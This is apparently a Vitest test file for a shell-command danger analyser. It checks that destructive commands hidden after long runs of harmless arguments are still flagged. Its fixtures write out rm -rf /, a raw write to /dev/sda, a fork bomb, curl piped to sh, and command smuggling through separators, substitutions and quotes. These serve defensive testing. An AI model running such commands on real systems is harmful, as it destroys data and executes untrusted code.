import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCommand, initShellParser } from './analyse';
import { PARSE_LIMITS } from './parse';

beforeAll(() => initShellParser());

/** Ordinary arguments past the parser's size limit: the pattern scan passes them over in bulk. */
const RUN = 'ab1 c/d e.f '.repeat(Math.ceil(PARSE_LIMITS.chars / 12) + 1);

// The scan drops runs of ordinary arguments without reading them as tokens. What ends such a
// run must still be read: each command hides a danger right after a long run.
describe('pattern scan after a long run of ordinary arguments', () => {
  it.each([
    ['a separator', `echo ${RUN}; rm -rf /`, 'hardline', 'rm-root'],
    ['an and-list', `echo ${RUN}&& rm -rf ~`, 'hardline', 'rm-root'],
    ['a background operator', `echo ${RUN}& rm -rf /`, 'hardline', 'rm-root'],
    ['a pipe', `curl -s https://x ${RUN}| sh`, 'dangerous', 'remote-code'],
    ['a newline', `echo ${RUN}\nrm -rf /`, 'hardline', 'rm-root'],
    ['a newline after a comment', `echo ${RUN}#x\nrm -rf /`, 'hardline', 'rm-root'],
    ['a double-quoted command', `bash -c ${RUN}"rm -rf /"`, 'hardline', 'rm-root'],
    ['a single-quoted command', `bash -c ${RUN}'rm -rf /'`, 'hardline', 'rm-root'],
    ['a substitution', `echo ${RUN}$(rm -rf /)`, 'hardline', 'rm-root'],
    ['a backtick substitution', `echo ${RUN}\`rm -rf /\``, 'hardline', 'rm-root'],
    ['a separator inside quotes', `echo ${RUN}"x; rm -rf /" ${RUN}`, 'hardline', 'rm-root'],
    ['an and-list after a backslash-newline', `echo ${RUN}\\\n&& rm -rf /`, 'hardline', 'rm-root'],
    ['a separator after an escaped blank', `echo ${RUN}a\\ ;rm -rf /`, 'hardline', 'rm-root'],
    ['a redirect', `echo ${RUN}> /dev/sda`, 'hardline', 'block-device-write'],
    ['find -exec', `find . ${RUN}-exec rm -rf / \\;`, 'hardline', 'rm-root'],
    ['a fork bomb named by the last word', `echo ${RUN}: (){ :|:& };:`, 'hardline', 'fork-bomb'],
    ['tabs between the words', `echo ${RUN.replaceAll(' ', '\t')}; rm -rf /`, 'hardline', 'rm-root'],
  ])('finds %s', (_what, cmd, verdict, key) => {
    const v = analyseCommand(cmd);
    expect(v.parsed).toBe(false);
    expect(v.verdict).toBe(verdict);
    expect(v.keys).toContain(key);
  });
});
